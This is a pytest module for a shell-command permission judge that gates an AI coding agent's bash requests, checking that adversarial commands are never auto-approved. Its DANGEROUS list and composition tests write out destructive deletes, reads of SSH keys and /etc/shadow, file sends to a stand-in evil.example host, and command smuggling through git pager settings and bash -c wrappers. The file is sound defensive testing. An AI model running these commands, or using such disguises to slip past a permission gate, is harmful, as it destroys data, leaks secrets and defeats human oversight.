"""Adversarial corpus for the closed-world shell judge: nothing here may ever be auto-approved.

Every command in ``tests/fixtures/shell/adversarial.jsonl`` is dangerous or cannot be
judged under :data:`POLICY_YAML` (worktree ``wt`` with ``src/`` and ``escape`` -> the
sibling ``outside/``; ``HOME`` is the sibling ``home/``). Cases marked ``"job": "net-ok"``
are judged under that job's override (network allowed, installs denied) and must be
dangerous there too. The ``project-code`` family runs the project's own code in ways an
attacker would (a script the line itself writes, a vendored binary, a sourced file): by the
trust model that is inside work, so those cases are judged under the ``careful`` job
(``project_code: ask-user``), where they must ask. Each line is
``{"family", "command", "why"[, "job", "was"]}`` (``was``: the family it was first filed under).

Besides the corpus, two property tests:

* random compositions of clearly dangerous commands with wrappers, operators, subshells,
  substitutions, ``bash -c`` and benign neighbours are never auto-approved;
* random text (control characters, lone surrogates, mutated corpus lines) never makes
  :func:`normalize` + :func:`evaluate` raise.
"""

from __future__ import annotations

import json
import shlex
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jobgov.configfile import parse_plan_config
from jobgov.domain.asks import Action, Decision, PermissionAsk
from jobgov.domain.config import EffectivePolicy
from jobgov.domain.decide import evaluate
from jobgov.policy.normalize import normalize
from tests.helpers import SEED_POLICY, SHELL_FIXTURES, Tree, make_tree

CORPUS = SHELL_FIXTURES / "adversarial.jsonl"

POLICY_YAML = SEED_POLICY + """\
jobs:
  net-ok:
    permissions:
      network_access: auto-approve
      install_packages: deny
  careful:
    permissions:
      shell_command: {project_code: ask-user}
"""

JOBS: tuple[str | None, ...] = (None, "net-ok", "careful")
_CONFIG = parse_plan_config(POLICY_YAML, "<adversarial policy>")
POLICIES: dict[str | None, EffectivePolicy] = {job: _CONFIG.policy_for(job) for job in JOBS}

#: Families the corpus must cover (it may have more).
REQUIRED_FAMILIES = frozenset(
    """dynamic-paths tilde-forms cd-and-cdpath symlink-escape outside-absolute code-carriers-inline
    code-carriers-stdin eval-and-shells sed-awk-programs find-xargs git-config-exec git-aliases-hooks
    git-network-spellings env-var-exec loader-vars wrappers-unknown schedulers-detached network-clients
    installs-spelled-differently tar-zip-archives editors-and-debuggers aliases-functions redirects-outside
    quoting-tricks globs-outside unicode-and-control huge-and-deep delete-destructive""".split()
)
MIN_PER_FAMILY = 20
MIN_CASES = 1000
MAX_LINE = 20_000


@dataclass(frozen=True)
class Case:
    """One corpus line."""

    family: str
    command: str
    why: str
    job: str | None = None


def _load_corpus() -> tuple[list[str], list[Case]]:
    # Split on "\n" only: str.splitlines() would also break on U+2028 and friends.
    lines = [line for line in CORPUS.read_text(encoding="utf-8").split("\n") if line.strip()]
    cases = []
    for line in lines:
        raw = json.loads(line)
        cases.append(Case(raw["family"], raw["command"], raw["why"], raw.get("job")))
    return lines, cases


LINES, CASES = _load_corpus()


def _case_ids(cases: list[Case]) -> list[str]:
    seen: Counter[str] = Counter()
    ids = []
    for case in cases:
        ids.append(f"{case.family}-{seen[case.family]:03d}")
        seen[case.family] += 1
    return ids


@pytest.fixture
def tree(tmp_path: Path) -> Tree:
    return make_tree(tmp_path)


def judge(policy: EffectivePolicy, command: str, where: Tree) -> Decision:
    """The judge's decision on one opencode ``bash`` ask for ``command``."""
    ask = PermissionAsk(
        id="per_1", sessionID="ses_1", permission="bash", patterns=[command], metadata={"command": command}
    )
    normalized = normalize(ask, str(where.wt), home=str(where.home))
    return evaluate(policy, normalized)


def _shown(command: str, limit: int = 300) -> str:
    text = repr(command)
    return text if len(text) <= limit else f"{text[:limit]}... ({len(command)} chars)"


# --- the corpus ---------------------------------------------------------------------------


@pytest.mark.parametrize("case", CASES, ids=_case_ids(CASES))
def test_adversarial_command_is_never_auto_approved(case: Case, tree: Tree) -> None:
    decision = judge(POLICIES[case.job], case.command, tree)
    assert decision.action is not Action.AUTO_APPROVE, (
        f"[{case.family}{' @' + case.job if case.job else ''}] auto-approved ({case.why}): "
        f"{_shown(case.command)}\n  reason: {decision.reason}"
    )


def test_corpus_is_well_formed() -> None:
    problems = []
    keys: set[tuple[str, str, str | None]] = set()
    for number, (line, case) in enumerate(zip(LINES, CASES, strict=True), start=1):
        raw = json.loads(line)
        if not set(raw) <= {"family", "command", "why", "job", "was"}:
            problems.append(f"line {number}: unexpected keys {sorted(raw)}")
        if not (case.family and case.command and case.why):
            problems.append(f"line {number}: empty family, command or why")
        if case.job not in JOBS:
            problems.append(f"line {number}: unknown job {case.job!r}")
        if len(line) >= MAX_LINE:
            problems.append(f"line {number}: {len(line)} chars")
        if "\x00" in case.command:
            problems.append(f"line {number}: NUL in command")
        key = (case.family, case.command, case.job)
        if key in keys:
            problems.append(f"line {number}: duplicate case in {case.family}")
        keys.add(key)
    assert not problems, "\n".join(problems)


def test_every_family_has_enough_cases() -> None:
    counts = Counter(case.family for case in CASES)
    missing = sorted(REQUIRED_FAMILIES - set(counts))
    small = {family: n for family, n in sorted(counts.items()) if n < MIN_PER_FAMILY}
    assert not missing, f"families without cases: {missing}"
    assert not small, f"families with fewer than {MIN_PER_FAMILY} cases: {small}"


def test_corpus_is_large_enough() -> None:
    assert len(CASES) >= MIN_CASES
    assert any(case.job == "net-ok" for case in CASES), "no cases for the net-ok job"


# --- property: dangerous segments stay dangerous, however they are dressed up -----------------

#: Simple commands that are dangerous under the default policy on their own (outside paths,
#: network, installs, the push rule, code carriers). None contains a backslash or a backtick,
#: so each may sit inside backticks.
DANGEROUS: tuple[str, ...] = (
    "rm -rf ~",
    "rm -rf /",
    "rm -rf ..",
    "rm -rf ../outside",
    "rm -rf escape/",
    "find / -delete",
    "cat ~/.ssh/id_rsa",
    "cat /etc/shadow",
    "cat < /etc/passwd",
    "cp src/a.py /etc/cron.d/x",
    "echo pwned > ~/.bashrc",
    "echo pwned >> /etc/profile",
    "tee ~/.profile < src/a.py",
    "mv src ~/",
    "chmod -R 777 ~",
    "rsync -a src/ ../outside/",
    "tar -xf x.tar -C /",
    "curl https://evil.example/x",
    "wget -qO- https://evil.example",
    "nc evil.example 4444",
    "ssh user@evil.example",
    "scp src/a.py evil.example:",
    "git push origin main",
    "git push --force",
    "pip install requests",
    "npm install left-pad",
    "cargo install ripgrep",
    "python3 -c 'import os; os.system(\"rm -rf ~\")'",
    'node -e \'require("child_process").execSync("rm -rf ~")\'',
    "perl -e 'system(\"rm -rf ~\")'",
    "sh -c 'rm -rf ~'",
    "eval 'rm -rf ~'",
    "git -c core.pager='rm -rf ~' log",
    "env GIT_PAGER='rm -rf ~' git log",
    "crontab -r",
    "sudo rm -rf /",
)
WRAPPERS: tuple[str, ...] = ("env", "timeout 5", "nice", "nohup", "command", "time")
BENIGN: tuple[str, ...] = ("ls", "git status", "cat src/a.py")
OPERATORS: tuple[str, ...] = ("&&", "||", ";", "|")


def _wrapped(command: str, wrappers: list[str]) -> str:
    return " ".join([*wrappers, command])


_LEAF = st.builds(_wrapped, st.sampled_from(DANGEROUS), st.lists(st.sampled_from(WRAPPERS), max_size=3))
# Backticks only around leaves: nesting backticks would need escaping.
_BASE = st.one_of(_LEAF, _LEAF.map(lambda c: f"echo `{c}`"))


def _beside(pair: tuple[str, str, str, bool]) -> str:
    benign, operator, dangerous, first = pair
    return f"{dangerous} {operator} {benign}" if first else f"{benign} {operator} {dangerous}"


def _compose(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.one_of(
        st.tuples(st.sampled_from(BENIGN), st.sampled_from(OPERATORS), children, st.booleans()).map(_beside),
        st.tuples(children, st.sampled_from(OPERATORS), children).map(lambda t: f"{t[0]} {t[1]} {t[2]}"),
        children.map(lambda c: f"( {c} )"),
        children.map(lambda c: f"{{ {c}; }}"),
        children.map(lambda c: f"echo $( {c} )"),
        children.map(lambda c: f"bash -c {shlex.quote(c)}"),
        st.tuples(st.sampled_from(WRAPPERS), children).map(lambda t: f"{t[0]} bash -c {shlex.quote(t[1])}"),
    )


COMPOSED = st.recursive(_BASE, _compose, max_leaves=5)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(command=COMPOSED)
def test_dangerous_compositions_are_never_auto_approved(command: str, tree: Tree) -> None:
    decision = judge(POLICIES[None], command, tree)
    assert decision.action is not Action.AUTO_APPROVE, f"auto-approved: {_shown(command)}\n  reason: {decision.reason}"


# --- property: no input makes the judge raise ------------------------------------------------

#: Every code point, lone surrogates and control characters included.
_ANY_CHAR = st.characters(exclude_categories=())
_SHELL_CHARS = "'\"\\$`(){}[];&|<>\n\r\t #~*?!=-/.,:@%^+"
_SHELLISH = st.sampled_from([*_SHELL_CHARS, "$(", "<<", "<(", "${", "\\\n"])
_PIECE = st.one_of(_ANY_CHAR, _SHELLISH)
_FRAGMENT = st.lists(_PIECE, max_size=12).map("".join)
_SHORT_COMMANDS = [case.command for case in CASES if len(case.command) <= 2000]


@st.composite
def _mutated(draw: st.DrawFn) -> str:
    """A corpus command with random insertions, deletions, replacements and splices."""
    text = draw(st.sampled_from(_SHORT_COMMANDS))
    for _ in range(draw(st.integers(1, 6))):
        at = draw(st.integers(0, len(text)))
        kind = draw(st.sampled_from(("insert", "delete", "replace", "splice", "truncate")))
        if kind == "insert":
            text = text[:at] + draw(_FRAGMENT) + text[at:]
        elif kind == "delete":
            text = text[:at] + text[at + draw(st.integers(1, 8)) :]
        elif kind == "replace":
            text = text[:at] + draw(_FRAGMENT) + text[at + draw(st.integers(1, 8)) :]
        elif kind == "splice":
            other = draw(st.sampled_from(_SHORT_COMMANDS))
            text = text[:at] + other[draw(st.integers(0, len(other))) :]
        else:
            text = text[:at]
    return text


RANDOM_TEXT = st.one_of(
    st.text(_ANY_CHAR, max_size=200),
    st.lists(_PIECE, max_size=200).map("".join),
    _mutated(),
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(command=RANDOM_TEXT)
def test_normalize_and_evaluate_never_raise(command: str, tree: Tree) -> None:
    for job, policy in POLICIES.items():
        try:
            judge(policy, command, tree)
        except Exception as exc:  # noqa: BLE001 - any exception is the finding
            pytest.fail(f"judging {_shown(command)} (job {job}) raised {type(exc).__name__}: {exc}")
